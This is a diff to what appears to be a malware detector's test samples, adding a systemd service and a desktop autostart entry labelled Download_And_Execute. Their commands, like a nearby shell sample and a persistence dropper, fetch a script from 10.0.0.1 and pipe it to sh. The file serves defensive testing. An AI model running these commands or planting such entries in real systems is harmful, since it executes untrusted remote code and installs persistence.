@@ -37,6 +37,11 @@ SAMPLES = {
     "eicar-late.txt": ("EICAR-Test-File", "x" * 900 + EICAR.decode() + "tail"),
     # No "#!" line, and a variable exported as scripts do (JavaScript exports too).
     "exported.sh": ("Download_And_Execute", "set -e\nexport PATH=/usr/bin:$PATH\ncurl -fsSL http://10.0.0.1/i | bash\n"),
+    # A user service and an autostart entry whose command downloads and runs a script.
+    "upd.service": ("Download_And_Execute", "[Unit]\nDescription=update\n\n[Service]\nExec" + "Start=/bin/sh -c "
+                    "\"curl -fsSL http://10.0.0.1/u | sh\"\n\n[Install]\nWantedBy=default.target\n"),
+    "upd.desktop": ("Download_And_Execute", "[Desktop Entry]\nType=Application\nName=Update\n"
+                    "Exec=sh -c 'wget -qO- http://10.0.0.1/u | sh'\n"),
     # No "#!" line, and a unit file's section and keys in its here-document.
     "unit-dropper": ("Persistence_Dropper", "cat > ~/.config/systemd/user/upd.service <<EOF\n[Unit]\n"
                      "Description=update\n[Service]\nExec" + "Start=/tmp/.u\nEOF\n"
